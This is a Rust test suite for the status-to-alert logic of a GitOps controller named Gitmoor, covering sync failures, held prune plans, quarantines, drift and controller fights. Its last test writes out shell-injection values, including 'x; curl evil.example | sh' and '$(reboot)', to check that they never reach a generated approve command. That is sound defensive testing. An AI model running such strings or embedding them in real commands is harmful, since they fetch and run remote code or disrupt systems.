//! What stands by the statuses of GitSyncs and MicroServices.

use super::*;
use serde_json::{Value, json};

fn condition(kind: &str, status: &str, reason: &str) -> Value {
    json!({"type": kind, "status": status, "reason": reason, "message": format!("{reason} it is"),
        "lastTransitionTime": "2026-01-01T00:00:00Z"})
}

/// What stands, and after a question mark what nothing is said of.
fn shown(observed: &Observed) -> String {
    let mut all: Vec<String> = observed.standing.iter().map(|one| one.key.to_string()).collect();
    all.extend(observed.unsettled.iter().map(|key| format!("?{key}")));
    all.join(", ")
}

fn sync(conditions: &[Value], more: Value) -> Observed {
    let mut status = json!({"observedGeneration": 1, "conditions": conditions});
    status.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    of_sync(&ObjectKey::new("shop", "main"), Some(1), &serde_json::from_value(status).unwrap())
}

fn service(conditions: &[Value], more: Value) -> Observed {
    let mut status = json!({"observedGeneration": 1, "conditions": conditions});
    status.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    of_service(&ObjectKey::new("shop", "orders"), Some(1), &serde_json::from_value(status).unwrap())
}

fn field(object: &str, kind: &str, change: &str) -> Value {
    json!({"kind": kind, "object": object, "path": "/spec/replicas", "change": change, "declared": 1, "live": 5,
        "manager": "kubectl", "observed": "2026-01-01T00:00:00Z",
        "declaredAt": {"file": "orders.yaml", "line": 7, "field": "/spec/replicas", "commit": "abcdef0123456789"}})
}

fn episode(object: &str, ended: &str) -> Value {
    let mut episode = field(object, "Deployment", "Modified");
    episode["until"] = json!("2026-01-01T00:01:00Z");
    episode["ended"] = json!(ended);
    episode
}

#[test]
fn a_sync_fails_when_something_is_wrong_and_not_while_it_is_under_way() {
    let check = |ready: (&str, &str), others: &[Value], expected: &str| {
        let conditions = [&[condition("Ready", ready.0, ready.1)], others].concat();
        assert_eq!(shown(&sync(&conditions, json!({}))), expected, "{ready:?}");
    };
    check(("True", "Applied"), &[], "");
    check(("False", "NotOurs"), &[condition("Stalled", "True", "NotOurs")], "SyncFailing");
    check(("False", "MissingPath"), &[], "SyncFailing");
    check(("False", "RepositoryNotFound"), &[condition("Stalled", "True", "RepositoryNotFound")], "SyncFailing");
    for reason in ["Progressing", "Suspended", "WaitingForHealth", "RenamePending"] {
        check(("False", reason), &[condition("Reconciling", "True", reason)], "?SyncFailing");
    }
    check(("Unknown", "NotSynced"), &[], "?SyncFailing");
    check(("False", "DependencyNotReady"), &[condition("Reconciling", "True", "DependencyNotReady")], "?SyncFailing");
    check(("False", "DependencyMissing"), &[condition("Stalled", "True", "DependencyMissing")], "SyncFailing");
    check(("False", "InvalidManifests"), &[], "Quarantined");
}

#[test]
fn a_source_that_cannot_be_read_is_told_as_that_alone() {
    let stale = [
        condition("Ready", "False", "TransportFailed"),
        condition("SourceStale", "True", "TransportFailed"),
        condition("Reconciling", "True", "TransportFailed"),
    ];
    assert_eq!(shown(&sync(&stale, json!({}))), "SourceStale, ?SyncFailing");
}

#[test]
fn of_a_status_of_another_generation_nothing_is_concluded() {
    let seen = sync(&[condition("Ready", "False", "NotOurs")], json!({"observedGeneration": 7}));
    assert_eq!(shown(&seen), "?SyncFailing, ?PlanHeld, ?Quarantined, ?SourceStale");
    let seen = service(&[condition("Ready", "False", "CrashLoopBackOff")], json!({"observedGeneration": 7}));
    assert_eq!(shown(&seen), "?ServiceFailing shop/orders");
}

#[test]
fn a_held_plan_is_told_with_its_hash_and_the_command() {
    let hold = json!({"plan": "0123abcd", "revision": "main@sha1:x", "reason": "PruneBudget", "message": "too many",
        "deletions": 7, "deletes": ["shop/a", "shop/b", "shop/c", "shop/d"], "since": "2026-01-01T00:00:00Z"});
    let seen = sync(&[condition("Ready", "False", "PlanHeld")], json!({"hold": hold}));
    assert_eq!(shown(&seen), "PlanHeld");
    let held = &seen.standing[0];
    assert_eq!(held.command.as_deref(), Some("gitmoor approve shop/main --plan 0123abcd"));
    assert_eq!(held.text, "plan 0123abcd is held: too many; it would delete 7");
    assert_eq!(held.lines, ["would delete shop/a", "would delete shop/b", "would delete shop/c"]);
    let renaming = json!({"plan": "0123abcd", "revision": "main@sha1:x", "reason": "RenamePending", "message": "m",
        "since": "2026-01-01T00:00:00Z"});
    assert_eq!(shown(&sync(&[condition("Ready", "True", "Applied")], json!({"hold": renaming}))), "");
}

#[test]
fn a_quarantine_is_told_with_its_places_and_is_another_when_they_are() {
    let of = |line: u32| {
        let diagnostics =
            json!([{"code": "GM201", "place": format!("orders.yaml:{line}:5"), "message": "no such field"}]);
        let more = json!({"diagnostics": diagnostics, "counts": {"quarantined": 1}});
        sync(&[condition("Ready", "False", "InvalidManifests")], more).standing.remove(0)
    };
    assert_eq!(of(3).lines, ["orders.yaml:3:5 GM201 no such field"]);
    assert_eq!(of(3).text, "1 MicroService is quarantined: what it was before stays");
    assert_eq!(of(3).said, of(3).said);
    assert_ne!(of(3).said, of(4).said);
}

#[test]
fn drift_is_told_of_its_object_with_who_and_where_it_is_declared() {
    let drift = |count: u32| json!({"workloadDrift": {"count": count, "fields": [field("shop/orders", "Deployment", "Modified")]}});
    let seen = service(&[condition("Ready", "True", "Ready")], drift(1));
    assert_eq!(shown(&seen), "Drifted shop/orders");
    let line = &seen.standing[0].lines[0];
    assert!(line.contains("by kubectl") && line.contains("orders.yaml:7 in abcdef0"), "{line}");
    assert_eq!(shown(&service(&[condition("Ready", "True", "Ready")], drift(0))), "");
}

#[test]
fn of_a_gitsync_only_that_drift_is_told_that_no_microservice_tells() {
    let fields = json!([
        field("shop/orders", "MicroService", "Modified"),
        field("shop/gone", "MicroService", "Deleted"),
        field("team/main", "GitSync", "Modified")
    ]);
    let seen = sync(&[condition("Ready", "True", "Applied")], json!({"drift": fields}));
    assert_eq!(shown(&seen), "Drifted shop/gone, Drifted team/main");
}

#[test]
fn what_was_put_back_has_happened_and_how_the_last_ended_is_known() {
    let history = json!([episode("shop/orders", "Corrected"), episode("shop/orders", "Reverted")]);
    let seen =
        service(&[condition("Ready", "True", "Ready")], json!({"workloadDrift": {"count": 0, "history": history}}));
    assert_eq!(seen.notes.len(), 1, "{:?}", seen.notes);
    assert!(seen.notes[0].text.ends_with("; put back"), "{}", seen.notes[0].text);
    assert_eq!(seen.notes[0].key.to_string(), "Corrected shop/orders");
    assert_eq!(seen.over, [(Key::parse("Drifted shop/orders").unwrap(), "Gitmoor put it back".to_owned())]);
}

#[test]
fn that_somebody_wrote_what_is_declared_is_how_it_ended_and_not_that_it_was_regained() {
    let mut regained = episode("shop/orders", "Corrected");
    regained["change"] = json!("Disowned");
    let history = json!([regained, episode("shop/orders", "Reverted")]);
    let seen =
        service(&[condition("Ready", "True", "Ready")], json!({"sourceDrift": {"count": 0, "history": history}}));
    assert_eq!(seen.notes, []);
    assert_eq!(seen.over, [(Key::parse("Drifted shop/orders").unwrap(), "somebody put it back".to_owned())]);
}

#[test]
fn a_service_fails_by_the_reason_of_its_pods_and_not_by_a_rollout() {
    let check = |conditions: &[Value], expected: &str| assert_eq!(shown(&service(conditions, json!({}))), expected);
    check(&[condition("Ready", "False", "CrashLoopBackOff")], "ServiceFailing shop/orders");
    check(&[condition("Ready", "False", "ReplicasUpdating")], "?ServiceFailing shop/orders");
    check(&[condition("Ready", "True", "Ready")], "");
    check(
        &[condition("Ready", "True", "Ready"), condition("ScalingActive", "False", "AutoscalerInactive")],
        "ServiceFailing shop/orders",
    );
    check(&[], "?ServiceFailing shop/orders");
}

#[test]
fn a_fight_is_told_with_the_other_side() {
    let fight =
        json!({"since": "2026-01-01T00:00:00Z", "managers": ["keda"], "perMinute": 5, "correctedEverySeconds": 30});
    let more = json!({"workloadDrift": {"count": 0, "fight": fight}});
    let seen = service(&[condition("Ready", "True", "Ready")], more);
    assert_eq!(shown(&seen), "Fighting shop/orders");
    assert!(seen.standing[0].text.contains("keda"), "{}", seen.standing[0].text);
}

#[test]
fn a_key_is_read_as_it_is_printed() {
    for text in ["SyncFailing", "Drifted shop/orders"] {
        assert_eq!(Key::parse(text).unwrap().to_string(), text);
    }
    for bad in ["", "Nothing", "Drifted", "Drifted shop", "Drifted a/b/c"] {
        let found = Key::parse(bad);
        assert!(found.is_none() || bad == "Drifted", "{found:?}");
    }
}

#[test]
fn counts_that_somebody_made_up_are_as_large_as_a_count_can_be() {
    let level = |count: u32| json!({"count": count, "fields": [field("shop/orders", "Deployment", "Modified")]});
    let drift = json!({"sourceDrift": level(u32::MAX), "workloadDrift": level(7)});
    let seen = service(&[condition("Ready", "True", "Available")], drift);
    let text = &seen.standing.iter().find(|one| one.key.kind == AlertKind::Drifted).unwrap().text;
    assert_eq!(text, "4294967295 fields of shop/orders differ from what is declared");
}

#[test]
fn a_hash_that_somebody_made_up_is_told_and_is_no_part_of_a_command() {
    let held = |plan: &str| {
        let hold = json!({"plan": plan, "revision": "main@sha1:1", "reason": "PruneBudget", "message": "too many",
            "since": "2026-01-01T00:00:00Z"});
        let seen = sync(&[condition("Ready", "False", "PlanHeld")], json!({"hold": hold}));
        seen.standing.into_iter().find(|one| one.key.kind == AlertKind::PlanHeld).unwrap().command
    };
    assert_eq!(held("0123abcd").as_deref(), Some("gitmoor approve shop/main --plan 0123abcd"));
    for plan in ["x; curl evil.example | sh", "$(reboot)", "--help", ""] {
        assert_eq!(held(plan), None, "{plan}");
    }
}
